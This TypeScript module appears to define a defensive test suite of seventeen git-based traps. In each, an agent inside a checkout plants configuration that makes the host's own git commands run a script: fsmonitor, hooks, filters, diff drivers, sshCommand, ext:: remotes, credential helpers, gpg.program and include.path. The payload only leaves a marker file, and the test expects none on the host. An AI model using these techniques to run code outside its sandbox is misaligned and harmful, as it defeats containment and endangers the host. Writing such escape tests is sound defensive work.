import type { Attack, AttackId } from '../attack.ts';
import type { Stage } from '../stage.ts';

/** What git does by itself in a repository that it is run in, and how an agent has it do more. */
interface Trap {
  readonly id: AttackId;
  readonly title: string;
  /** A program that leaves the mark lies at `$trap`, and at `$here` as git in the checkout sees it. */
  readonly script: (stage: Stage) => string;
}

const hooks = [
  'pre-commit',
  'prepare-commit-msg',
  'commit-msg',
  'post-commit',
  'post-checkout',
  'post-merge',
  'post-rewrite',
  'pre-push',
  'pre-rebase',
  'reference-transaction',
  'post-index-change',
];

const forgeUrl = (stage: Stage) => `${stage.errand.forge.url}/${stage.repository}.git`;

const traps: readonly Trap[] = [
  { id: 'G1', title: 'core.fsmonitor in the configuration', script: () => 'git config core.fsmonitor $here' },
  {
    id: 'G2',
    title: 'hooks of eleven kinds',
    script: () => `mkdir -p .git/hooks; for each in ${hooks.join(' ')}; do cp $trap .git/hooks/$each; done`,
  },
  {
    id: 'G3',
    title: 'core.hooksPath to a folder of hooks',
    script: () => 'mkdir .git/mine; cp $trap .git/mine/pre-commit; git config core.hooksPath .git/mine',
  },
  {
    id: 'G4',
    title: 'filters (clean, process) through .gitattributes',
    script: () =>
      `echo '*.txt filter=one' > .gitattributes; echo '*.md filter=two' >> .gitattributes
git config filter.one.clean "$here; cat"; git config filter.two.process $here; echo more >> README.md`,
  },
  {
    id: 'G5',
    title: 'a textconv driver',
    script: () => `echo '*.txt diff=x' > .gitattributes; git config diff.x.textconv $here`,
  },
  { id: 'G6', title: 'an external diff program', script: () => 'git config diff.external $here' },
  {
    id: 'G7',
    title: 'a diff driver’s own command',
    script: () => `echo '*.txt diff=x' > .gitattributes; git config diff.x.command $here`,
  },
  {
    id: 'G8',
    title: 'core.sshCommand with an ssh remote',
    script: () =>
      'git config remote.origin.url ssh://git@198.51.100.7/x.git; git config core.sshCommand "$here; false"',
  },
  {
    id: 'G9',
    title: 'a remote over ext::, which runs a command',
    script: () => 'git config protocol.ext.allow always; git config remote.origin.url "ext::sh $here"',
  },
  {
    id: 'G10',
    title: 'uploadpack and receivepack of a remote',
    script: () =>
      'git config remote.origin.url .; git config remote.origin.uploadpack $here; git config remote.origin.receivepack $here',
  },
  {
    id: 'G11',
    title: 'a credential helper',
    script: (stage) => `git config remote.origin.url ${forgeUrl(stage)}; git config credential.helper "!$here; false"`,
  },
  {
    id: 'G12',
    title: 'core.askPass',
    script: (stage) => `git config remote.origin.url ${forgeUrl(stage)}; git config core.askPass $here`,
  },
  {
    id: 'G13',
    title: 'gpg.program with signed commits',
    script: () => 'git config commit.gpgSign true; git config user.signingKey x; git config gpg.program $here',
  },
  {
    id: 'G14',
    title: 'include.path to further configuration',
    script: () => `git config -f .git/more core.fsmonitor $here; git config include.path more`,
  },
  {
    id: 'G15',
    title: 'a .git file that leads to a repository elsewhere',
    script: () =>
      `mkdir .trap; cp $trap .trap/run; git config core.fsmonitor .trap/run
mv .git ../home/other.git; echo 'gitdir: ../home/other.git' > .git`,
  },
  {
    id: 'G16',
    title: 'filters through info/attributes, which no commit shows',
    script: () =>
      `mkdir -p .git/info; echo '* filter=x' > .git/info/attributes; git config filter.x.clean "$here; cat"`,
  },
  {
    id: 'G17',
    title: 'the filter of Git LFS, made one’s own',
    script: () =>
      `echo '*.bin filter=lfs diff=lfs merge=lfs -text' > .gitattributes; echo data > model.bin
git config filter.lfs.clean "$here; cat"; git config filter.lfs.process $here`,
  },
];

export const attacks: readonly Attack[] = traps.map(({ id, title, script }) => ({
  id,
  title,
  expected: 'no marker on the host',
  ...(id === 'G1' ? { representative: true } : {}),
  attack: async (stage) => {
    await stage.play(
      `trap=.git/trap; here=.git/trap
printf '#!/bin/sh\\ntouch ${stage.folder}/ran\\n' > $trap; chmod 755 $trap
${script(stage)}
echo changed > changed.txt`,
    );
    const through = await stage.marked('ran');
    return { through, seen: through ? 'marker on the host' : 'no marker' };
  },
  control: { weakness: 'naive-git', without: 'bundle: git status, add, commit, diff, fetch and push in the checkout' },
}));
